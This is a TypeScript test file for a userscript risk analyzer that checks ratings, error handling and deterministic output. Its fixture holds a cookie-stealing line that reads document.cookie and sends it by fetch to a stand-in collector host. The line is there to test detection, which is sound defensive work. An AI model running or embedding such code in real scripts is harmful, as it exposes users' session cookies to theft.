import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { RULES_VERSION } from "./rating/rules-version.ts";
import { userscript } from "./testing/find-in.ts";

const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";

describe("analyze-script", () => {
	test("a leak is red, with place, data flow and advice", () => {
		const result = analyzeScript({ code: userscript(["match https://shop.example/*"], LEAK) });
		expect(result.risk_level).toBe("red");
		expect(result.score).toBeLessThanOrEqual(39);
		const [first] = result.vulnerabilities;
		expect(first).toMatchObject({ type: "cookie-exfiltration", severity: "critical", line: 6 });
		expect(first?.description).toContain("collector.stranger.test");
		expect(first?.path[0]).toMatchObject({ line: 5 });
		expect(result.recommendations.join(" ")).toContain("Do not install");
		expect(result.summary).toMatch(/^High risk\. .*Read 6 lines of code/);
		expect(result.rules_version).toBe(RULES_VERSION);
	});

	test("harmless code is green, and the summary promises nothing", () => {
		const result = analyzeScript({ code: "document.querySelectorAll('.ad').forEach((ad) => ad.remove());" });
		expect(result).toMatchObject({ risk_level: "green", vulnerabilities: [], recommendations: [] });
		expect(result.summary).toContain("This is not a guarantee.");
		expect(result.capabilities.offline).toBe(true);
	});

	test("unreadable code is not rated, with the place of the error", () => {
		const result = analyzeScript({ code: "ok();\nlet = = 2" });
		expect(result).toMatchObject({ risk_level: "unrated", score: 0, vulnerabilities: [] });
		expect(result.summary).toContain("Line 2");
		expect(result.capabilities.offline).toBe(false);
	});

	test("too large and too deep are not rated", () => {
		expect(analyzeScript({ code: `x="${"a".repeat(4_194_304)}"` }).risk_level).toBe("unrated");
		expect(analyzeScript({ code: `${"(".repeat(100_000)}1${")".repeat(100_000)}` }).risk_level).toBe("unrated");
		expect(analyzeScript({ code: `x=${Array.from({ length: 60_000 }, () => "a").join("+")}` }).risk_level).not.toBe(
			"red",
		);
	});

	test("an address is judged by what it runs, with places in the address", () => {
		const code = `javascript:${encodeURIComponent(LEAK.replace("\n", ""))}`;
		const [first] = analyzeScript({ code }).vulnerabilities;
		expect(first).toMatchObject({ type: "cookie-exfiltration", line: 1 });
		expect(first?.column).toBeGreaterThan(20);
	});

	test("the same code gives the same result", () => {
		const code = userscript(["match *://*/*", "require https://static.example/a.js"], LEAK);
		expect(analyzeScript({ code })).toEqual(analyzeScript({ code }));
	});

	test("never throws, and never rates unparsable code green", () => {
		fc.assert(
			fc.property(fc.oneof(fc.string(), fc.string({ unit: "binary" })), (code) => {
				const result = analyzeScript({ code });
				expect(["green", "amber", "red", "unrated"]).toContain(result.risk_level);
				if (/Not rated/.test(result.summary)) expect(result.risk_level).toBe("unrated");
			}),
		);
	}, 60_000);
});
